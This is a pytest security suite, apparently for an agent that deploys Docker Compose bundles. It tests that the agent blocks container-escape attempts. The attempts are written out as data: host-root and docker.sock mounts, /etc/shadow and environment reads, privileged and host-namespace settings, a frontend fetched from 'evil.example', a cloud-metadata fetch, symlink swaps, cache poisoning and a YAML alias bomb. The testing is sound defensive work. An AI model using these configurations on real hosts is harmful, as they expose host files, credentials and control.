"""Bundles that try to get out, on a real Engine: what they reach, not what they ask for."""

import base64
from collections.abc import AsyncIterator, Iterator, Mapping
from pathlib import Path
from typing import Any
from uuid import uuid4

import anyio
import pytest

from tests.support import engine
from tests.support.agent_process import KEY, Process, agent_process
from tests.support.bundles import zip_bundle

pytestmark = [pytest.mark.anyio, pytest.mark.engine, pytest.mark.timeout(180)]

SENTINEL = "nothing-of-the-host-is-seen-here"


@pytest.fixture
def host() -> Iterator[engine.Host]:
    yield from engine.host()


@pytest.fixture
async def agent(tmp_path: Path, host: engine.Host) -> AsyncIterator[Process]:
    async with agent_process(tmp_path) as agent:
        yield agent


@pytest.fixture
def name(host: engine.Host) -> str:
    """A name that is cleared away afterwards."""
    found = f"t-{uuid4().hex[:12]}"
    host.projects.append(found)
    return found


async def check(agent: Process, files: Mapping[str, str]) -> tuple[int, str]:
    """The verdict on a bundle: the status, and all places."""
    answer = await agent.http.post("/api/v1/bundles", content=zip_bundle(files))
    if answer.status_code not in {200, 201}:
        return answer.status_code, answer.text
    digest = answer.json()["digest"]
    verdict = await agent.http.post(f"/api/v1/bundles/{digest}/check")
    findings = verdict.json().get("errors") or [{"where": verdict.json().get("detail", "")}]
    return verdict.status_code, " ".join(finding["where"] for finding in findings)


def web(body: str, **files: str) -> dict[str, str]:
    """A bundle with one service."""
    return {"compose.yaml": f"services:\n  a:\n    image: busybox\n    {body}\n", **files}


SHORT = "volumes: ['/:/host']"
ATTACKS: Mapping[str, tuple[dict[str, str], str]] = {
    "bind, short": (web(SHORT), "a.volumes[0]"),
    "bind, long": (web("volumes: [{type: bind, source: /etc, target: /x}]"), "a.volumes[0]"),
    "bind, upwards": (web("volumes: ['../../:/x']"), "a.volumes[0]"),
    "bind, home": (web("volumes: ['~/:/x']"), "a.volumes[0]"),
    "bind, deep upwards": (web("volumes: ['./a/../../b:/x']"), "a.volumes[0]"),
    "bind by the bundle's own variable": (
        web("volumes: ['${D}:/x']", **{".env": "D=/var/run"}),
        "a.volumes[0]",
    ),
    "bind by a default": (web("volumes: ['${D:-/etc}:/x']"), "a.volumes[0]"),
    "bind by an anchor": (
        {
            "compose.yaml": "x-v: &v ['/:/host']\nservices: {a: {image: busybox, volumes: *v}}",
        },
        "a.volumes[0]",
    ),
    "bind by a merge": (
        {
            "compose.yaml": "x-v: &v {volumes: ['/:/host']}\n"
            "services: {a: {<<: *v, image: busybox}}",
        },
        "a.volumes[0]",
    ),
    "bind by a second file": (
        web("init: true", **{"compose.override.yaml": f"services:\n  a:\n    {SHORT}\n"}),
        "a.volumes[0]",
    ),
    "bind by a file that is included": (
        {
            "compose.yaml": "include: [b.yaml]\nservices: {b: {image: busybox}}",
            "b.yaml": f"services:\n  a:\n    image: busybox\n    {SHORT}\n",
        },
        "a.volumes[0]",
    ),
    "bind by extends": (
        {
            "compose.yaml": "services: {a: {extends: {file: b.yaml, service: z}}}",
            "b.yaml": f"services:\n  z:\n    image: busybox\n    {SHORT}\n",
        },
        "a.volumes[0]",
    ),
    "bind in a second document": (
        {
            "compose.yaml": "services: {a: {image: busybox}}\n---\n"
            f"services:\n  a:\n    {SHORT}\n",
        },
        "a.volumes[0]",
    ),
    "bind by !override": (
        web(
            "init: true",
            **{"compose.override.yaml": "services: {a: {volumes: !override ['/:/x']}}"},
        ),
        "a.volumes[0]",
    ),
    "bind in a profile": (web(f"{SHORT}\n    profiles: [p]\n  b:\n    image: x"), "a.volumes[0]"),
    "socket": (web("volumes: ['/var/run/docker.sock:/d.sock']"), "a.volumes[0]"),
    "socket, read only": (web("volumes: ['/run/docker.sock:/d.sock:ro']"), "a.volumes[0]"),
    "volume of a folder": (
        web("volumes: ['vol:/x']\nvolumes: {vol: {driver_opts: {type: none, o: bind, device: /}}}"),
        "vol.driver_opts",
    ),
    "volume by nfs": (
        web("volumes: ['vol:/x']\nvolumes: {vol: {driver_opts: {type: nfs, device: ':/'}}}"),
        "vol.driver_opts",
    ),
    "volume of others": (
        web("volumes: ['vol:/x']\nvolumes: {vol: {external: true}}"),
        "vol.external",
    ),
    "network of others": (
        web("networks: [n]\nnetworks: {n: {external: true, name: bridge}}"),
        "n.external",
    ),
    "network that is the host": (web("network_mode: host"), "a.network_mode"),
    "network of a container": (web("network_mode: 'container:x'"), "a.network_mode"),
    "bridge of the host": (
        web(
            "networks: [n]\nnetworks: {n: {driver_opts: {com.docker.network.bridge.name: docker0}}}"
        ),
        "n.driver_opts",
    ),
    "processes of the host": (web("pid: host"), "a.pid"),
    "memory of the host": (web("ipc: host"), "a.ipc"),
    "name of the host": (web("uts: host"), "a.uts"),
    "users of the host": (web("userns_mode: host"), "a.userns_mode"),
    "groups of the host": (web("cgroup: host"), "a.cgroup"),
    "all rights": (web("privileged: true"), "a.privileged"),
    "a capability": (web("cap_add: [SYS_ADMIN]"), "a.cap_add[0]"),
    "every capability": (web("cap_add: [all]"), "a.cap_add[0]"),
    "a disk": (web("devices: ['/dev/sda']"), "a.devices[0]"),
    "every device": (web("device_cgroup_rules: ['a *:* rwm']"), "a.device_cgroup_rules"),
    "no filter": (web("security_opt: ['seccomp:unconfined']"), "a.security_opt[0]"),
    "a kernel parameter": (web("sysctls: {kernel.domainname: x}"), "a.sysctls.kernel.domainname"),
    "another runtime": (web("runtime: runc"), "a.runtime"),
    "another log driver": (web("logging: {driver: syslog}"), "a.logging.driver"),
    "a label of others": (
        web("labels: {com.docker.compose.project: victim}"),
        "a.labels.com.docker.compose.project",
    ),
    "secret from a variable": (
        web("secrets: [s]\nsecrets: {s: {environment: SERVER_KEY}}"),
        "s.environment",
    ),
    "secret from the host": (web("secrets: [s]\nsecrets: {s: {file: /etc/shadow}}"), "s.file"),
    "config from above": (web("configs: [c]\nconfigs: {c: {file: ../../agent.db}}"), "c.file"),
    "environment of the agent": (web("env_file: /proc/self/environ"), "a.env_file"),
    "environment, not required": (
        web("env_file: [{path: /proc/1/environ, required: false}]"),
        "a.env_file[0]",
    ),
    "variables' home": (web("environment: {H: '${DOCKER_CONFIG}'}"), "a.environment.H"),
    "include from the host": (
        {"compose.yaml": "include: [/etc/x.yaml]\nservices: {a: {image: x}}"},
        "include[0]",
    ),
    "include from elsewhere": (
        {"compose.yaml": "include: ['https://x.org/y.git']\nservices: {a: {image: x}}"},
        "include[0]",
    ),
    "include of an image": (
        {"compose.yaml": "include: ['oci://x.org/y']\nservices: {a: {image: x}}"},
        "include[0]",
    ),
    "build of the host": (web("build: /etc"), "a.build.context"),
    "build from above": (web("build: ../.."), "a.build.context"),
    "build from elsewhere": (web("build: 'https://x.org/y.git'"), "a.build.context"),
    "build with a file of the host": (
        web("build: {context: ., dockerfile: /etc/passwd}"),
        "a.build.dockerfile",
    ),
    "build in the host's network": (web("build: {context: ., network: host}"), "a.build.network"),
    "build with another context": (
        web("build: {context: ., additional_contexts: {x: /etc}}"),
        "a.build.additional_contexts.x",
    ),
    "build that writes": (
        web("build: {context: ., cache_to: ['type=local,dest=/etc/x']}"),
        "a.build.cache_to",
    ),
    "build that names": (web("build: {context: ., tags: ['victim-web']}"), "a.build.tags"),
    "front end of others": (
        web("build: .", Dockerfile="#syntax=evil.example/x\nFROM busybox\n"),
        "a.build",
    ),
    "addition from the metadata": (
        web("build: .", Dockerfile="FROM busybox\nADD http://169.254.169.254/ /x\n"),
        "a.build",
    ),
    "image of the agent's": (web("build: .", Dockerfile="FROM container-host-agent/own:x"), "a."),
    "port of the agent": (web("ports: ['%PORT%:80']"), "a.ports[0].published"),
    "port of the agent, in a range": (web("ports: ['1-65535:80']"), "compose.yaml"),
    "nothing known": (web("made_up: true"), "made_up"),
    "aliases that explode": (
        {
            "compose.yaml": "a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
            + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9))
            + "services: {a: {image: x}}\n",
        },
        "aliases",
    ),
}


async def test_no_bundle_gets_past_the_gate(agent: Process) -> None:
    port = str(agent.http.base_url.port)
    got_through = {}
    for attack, (files, place) in ATTACKS.items():
        sent = {path: text.replace("%PORT%", port) for path, text in files.items()}
        status, found = await check(agent, sent)
        if status != 422 or place not in found:
            got_through[attack] = (status, found)

    assert got_through == {}


KEPT = {
    "env_file": web("env_file: 'FILE'"),
    "env_file, long": web("env_file: [{path: 'FILE', required: false}]"),
    "label_file": web("label_file: 'FILE'"),
    "bind": web("volumes: ['FILE:/x']"),
    "bind of its folder": web("volumes: ['FOLDER:/x']"),
    "secret": web("secrets: [s]\nsecrets: {s: {file: 'FILE'}}"),
    "config": web("configs: [s]\nconfigs: {s: {file: 'FILE'}}"),
    "include": {"compose.yaml": "include: ['FILE']\nservices: {a: {image: busybox}}"},
    "extends": {"compose.yaml": "services: {a: {extends: {file: 'FILE', service: a}}}"},
    "build": {"compose.yaml": "services: {a: {build: 'FOLDER'}}"},
    "build, more": {
        "compose.yaml": "services: {a: {build: {context: ., additional_contexts: {x: 'FOLDER'}}}}",
        "Dockerfile": "FROM busybox\n",
    },
    "build, dockerfile": {
        "compose.yaml": "services: {a: {build: {context: ., dockerfile: 'FILE'}}}"
    },
    "build, secret": {
        "compose.yaml": "services: {a: {build: {context: ., secrets: [s]}}}\n"
        "secrets: {s: {file: 'FILE'}}",
        "Dockerfile": "FROM busybox\n",
    },
    "develop": web("develop: {watch: [{action: sync, path: 'FOLDER', target: /x}]}"),
    "credential_spec": web("credential_spec: {file: 'FILE'}"),
}


async def test_no_bundle_reads_credentials_that_are_kept_for_registries(agent: Process) -> None:
    password = "kept-and-never-shown"
    answer = await agent.http.put(
        "/api/v1/registries/registry.example.com?check=false",
        json={"username": "jana", "password": password},
    )
    assert answer.status_code == 200
    kept = agent.root / "state" / "compose" / "config.json"
    secret = base64.b64encode(f"jana:{password}".encode()).decode()
    assert secret in kept.read_text()
    folders = [
        str(kept.parent),
        "~",
        "${HOME}",
        "${DOCKER_CONFIG}",
        f"/proc/self/root{kept.parent}",
    ]

    through = []
    for what, files in KEPT.items():
        for folder in folders:
            filled = {
                name: text.replace("FILE", f"{folder}/config.json").replace("FOLDER", folder)
                for name, text in files.items()
            }
            status, said = await check(agent, filled)
            if status != 422 or secret in said or password in said:
                through.append((what, folder, status, said))
    assert through == []
    assert password not in (agent.root / "agent.log").read_text()


async def deploy(agent: Process, name: str, files: Mapping[str, str]) -> None:
    """Deploys as the manager does; it must come up."""
    answer = await agent.launch(name, zip_bundle(files))
    assert answer.status_code == 201, answer.text


def inspected(host: engine.Host, container: str) -> Any:
    """What the Engine says of a container."""
    return host.client.inspect_container(container)


async def printed(host: engine.Host, container: str, until: str, *, times: int = 1) -> str:
    """What a container has printed, once it has printed a word so often."""
    with anyio.fail_after(30):
        while True:
            text: str = host.client.logs(container).decode()
            if text.count(until) >= times:
                return text
            await anyio.sleep(0.2)


async def test_containers_have_no_rights_but_those_they_need(
    agent: Process, host: engine.Host, name: str
) -> None:
    body = "cap_add: [NET_ADMIN]\n    command: sh -c 'cat /proc/self/status; sleep 600'"
    await deploy(agent, name, web(body))

    text = await printed(host, f"{name}-a-1", "NoNewPrivs")

    rights = dict(line.split(":\t", 1) for line in text.splitlines() if ":\t" in line)
    # Docker's own fourteen and NET_ADMIN.
    assert rights["CapBnd"] == rights["CapEff"] == "00000000a80435fb"
    assert rights["NoNewPrivs"] == "1"
    found = inspected(host, f"{name}-a-1")["HostConfig"]
    assert (found["Init"], found["PidsLimit"], found["Privileged"]) == (True, 512, False)


async def test_nothing_of_the_agents_is_in_an_environment(
    agent: Process, host: engine.Host, name: str
) -> None:
    body = (
        "command: sh -c 'env; echo done; sleep 600'\n"
        "    environment: [SERVER_KEY, JWT_SECRET, DOCKER_HOST_, 'A=${SERVER_KEY:-none}', "
        "'B=${STATE_DIR-none}', 'C=$JWT_SECRET']"
    )
    await deploy(agent, name, web(body))

    text = await printed(host, f"{name}-a-1", "done")

    assert KEY not in text
    assert "A=none" in text
    assert "B=none" in text


async def test_a_mount_that_is_swapped_for_a_link_shows_nothing_of_the_host(
    agent: Process, host: engine.Host, name: str, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "f").write_text(SENTINEL)
    script = f"cat /data/*; mv /w/data /w/old; ln -s {secret} /w/data; echo turn; sleep 1; exit 1"
    compose = (
        "services:\n  a:\n    image: busybox\n    restart: always\n"
        f"    command: [sh, -c, '{script}']\n    volumes: ['.:/w', './data:/data']\n"
    )
    await deploy(agent, name, {"compose.yaml": compose, "data/own": "mine\n"})

    text = await printed(host, f"{name}-a-1", "turn", times=3)

    assert SENTINEL not in text
    assert text.count("mine") >= 3


async def test_a_folder_that_is_swapped_before_a_rebuild_builds_nothing_of_the_host(
    agent: Process, host: engine.Host, name: str, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "f").write_text(SENTINEL)
    (secret / "Dockerfile").write_text("FROM busybox\nCOPY . /x\n")
    script = f"mv /w/app /w/old; ln -s {secret} /w/app; echo turn; sleep 600"
    compose = (
        "services:\n  a:\n    build: ./app\n"
        f"    command: [sh, -c, 'cat /x/f; {script}']\n    volumes: ['.:/w']\n"
    )
    dockerfile = "FROM busybox\nCOPY . /x\n"
    await deploy(
        agent, name, {"compose.yaml": compose, "app/Dockerfile": dockerfile, "app/f": "mine\n"}
    )
    await printed(host, f"{name}-a-1", "turn")

    answer = await agent.http.post(f"/agent/containers/{name}/restart")

    assert answer.status_code == 422
    assert "Dockerfile" in answer.json()["detail"]
    assert SENTINEL not in await printed(host, f"{name}-a-1", "turn")


async def test_builds_leave_nothing_for_each_other_in_caches(
    agent: Process, host: engine.Host, name: str
) -> None:
    marker = uuid4().hex
    step = "RUN --mount=type=cache,id=shared,target=/c"
    writes = f"FROM busybox\n{step} echo {marker} > /c/poison\n"
    reads = f"FROM busybox\n{step} cat /c/* > /found; echo {marker} >> /log\n"
    other = f"{name}-b"
    host.projects.append(other)
    body = "build: .\n    command: sh -c 'cat /found; echo done; sleep 600'"
    await deploy(agent, name, web("build: .\n    command: sleep 600", Dockerfile=writes))
    await deploy(agent, other, web(body, Dockerfile=reads))

    assert marker not in await printed(host, f"{other}-a-1", "done")


async def test_no_two_environments_mean_the_same_volume(agent: Process, host: engine.Host) -> None:
    first = f"t{uuid4().hex[:8]}"
    second = f"{first}_x"
    host.projects += [first, second]
    writes = "command: sh -c 'echo mine > /d/f; sleep 600'\n    volumes: ['x_data:/d']\n"
    reads = "command: sh -c 'ls /d; echo done; sleep 600'\n    volumes: ['data:/d']\n"
    await deploy(agent, first, web(f"{writes}volumes: {{x_data: }}"))
    await deploy(agent, second, web(f"{reads}volumes: {{data: }}"))

    assert (await printed(host, f"{second}-a-1", "done")).strip() == "done"
